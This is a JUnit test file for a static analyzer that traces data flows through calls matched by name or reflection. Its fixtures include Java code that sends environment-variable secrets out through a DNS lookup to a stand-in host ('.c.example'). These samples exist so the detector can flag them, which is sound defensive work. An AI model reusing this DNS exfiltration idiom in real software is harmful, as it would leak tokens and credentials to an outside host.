package dev.clearbox.analyzers.source;

import dev.clearbox.core.Finding;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * A call matched by name (a receiver whose type is not known, a reflective call on a class not known) once followed
 * its same-named project methods only when there were at most 8, and beyond that none of them, silently: twelve
 * same-named methods hid the one that sends. Now every one is followed (beyond 8 through the nodes the calls of that
 * name share): the twelfth is reached from every call site, on one thread or several, and nothing is cut.
 */
class NameMatchedCallTest {
    @TempDir
    Path root;

    /** {@code H1..H12}, unrelated classes each with {@code method(String)}; only {@code H12}'s sends its argument. */
    private static SourceFixture handlers(SourceFixture f, String modifiers, String method) {
        for (int i = 1; i <= 12; i++) {
            String body = i == 12 ? "java.net.InetAddress.getByName(data + \".c.example\");" : "System.out.println(data);";
            f.file("p/H" + i + ".java", "package p;\nclass H" + i + " {\n"
                    + "    public " + modifiers + "void " + method + "(String data) throws Exception {\n        " + body
                    + "\n    }\n}\n");
        }
        return f;
    }

    /** Twenty calls on receivers of unknown type ({@code var} of an unparsed vendor class's result). */
    private SourceFixture unknownReceivers(Path dir, int threads) {
        SourceFixture f = handlers(SourceFixture.in(dir).threads(threads), "", "send");
        StringBuilder callers = new StringBuilder("package p;\nimport vendor.Registry;\nclass A {\n");
        for (int i = 0; i < 20; i++) {
            callers.append("    void f").append(i).append("() throws Exception {\n")
                    .append("        var c = Registry.find(\"h").append(i).append("\");\n")
                    .append("        c.send(System.getenv(\"T").append(i).append("\"));\n    }\n");
        }
        return f.file("p/A.java", callers.append("}\n").toString());
    }

    @Test
    void theTwelfthSameNamedMethodIsReachedFromEveryCallThreadsAside() {
        SourceAnalysisResult one = unknownReceivers(root.resolve("one"), 1).analyze();
        SourceAnalysisResult three = unknownReceivers(root.resolve("three"), 3).analyze();
        assertEquals(one, three, "the result does not depend on the number of threads");
        List<Finding> flows = one.findings().stream().filter(x -> x.ruleId().equals("CBX-SRC-EXFIL")).toList();
        assertEquals(1, flows.size(), flows.toString());
        Finding f = flows.get(0);
        assertEquals("p/H12.java", f.location().file());
        assertEquals(20, f.flow().grouped(), f.toString());
        int caller = f.flow().source().line();
        // the link through the shared node is placed at the call it came through
        assertTrue(f.path().stream().anyMatch(s -> s.location().file().equals("p/A.java")
                && s.location().line() == caller && s.note().contains("passed to H12.send")), f.path().toString());
        assertEquals(List.of(), one.coverage().flowLimits());
    }

    @Test
    void aReceiverOfUnknownTypeMayBeALibraryObjectToo() {
        // Registry.lookup is matched by name to a network sink (the vendor class is not parsed): c may be its
        // connection, so what is sent on c is written to it, as well as passed to the twelve same-named methods
        SourceAnalysisResult result = handlers(SourceFixture.in(root), "", "send").file("p/A.java", """
                package p;
                import vendor.Registry;
                class A {
                    void f() throws Exception {
                        var c = Registry.lookup("h");
                        c.send(System.getenv("TOKEN"));
                    }
                }
                """).analyze();
        List<Finding> flows = result.findings().stream().filter(x -> x.ruleId().equals("CBX-SRC-EXFIL")).toList();
        assertEquals(List.of("p/A.java:5 java.rmi.Naming#lookup", "p/H12.java:4 java.net.InetAddress#getByName"),
                flows.stream().map(f -> f.location().file() + ":" + f.location().line() + " " + f.api()).sorted().toList(),
                flows.toString());
        assertTrue(flows.stream().allMatch(f -> f.flow().source().line() == 6), flows.toString());
    }

    private SourceFixture reflective(Path dir, int threads) {
        return handlers(SourceFixture.in(dir).threads(threads), "static ", "x").file("p/R.java", """
                package p;
                class R {
                    void call(String cls) throws Exception {
                        Class.forName(cls).getMethod("x", String.class).invoke(null, System.getenv("TOKEN"));
                    }
                }
                """);
    }

    @Test
    void reflectionOnAClassNotKnownReachesTheTwelfthSameNamedMethodAndIsListed() {
        SourceAnalysisResult one = reflective(root.resolve("one"), 1).analyze();
        SourceAnalysisResult three = reflective(root.resolve("three"), 3).analyze();
        assertEquals(one, three, "the result does not depend on the number of threads");
        List<Finding> flows = one.findings().stream().filter(x -> x.ruleId().equals("CBX-SRC-EXFIL")).toList();
        assertEquals(1, flows.size(), flows.toString());
        assertEquals("p/H12.java", flows.get(0).location().file());
        assertEquals("p/R.java", flows.get(0).flow().source().file());
        assertEquals(4, flows.get(0).flow().source().line());
        // which of the twelve runs is not known: the call is still a coverage item with its site
        List<String> reflective = one.coverage().unresolvedCalls().stream()
                .filter(c -> c.call().startsWith("reflection: "))
                .map(c -> c.file() + ":" + c.line() + ": " + c.call()).toList();
        assertEquals(List.of("p/R.java:4: reflection: Class.forName(cls).getMethod(\"x\", String.class)"
                + ".invoke(null, System.getenv(\"TOKEN\")) (class name not constant)"), reflective);
        assertEquals(List.of(), one.coverage().flowLimits());
    }
}
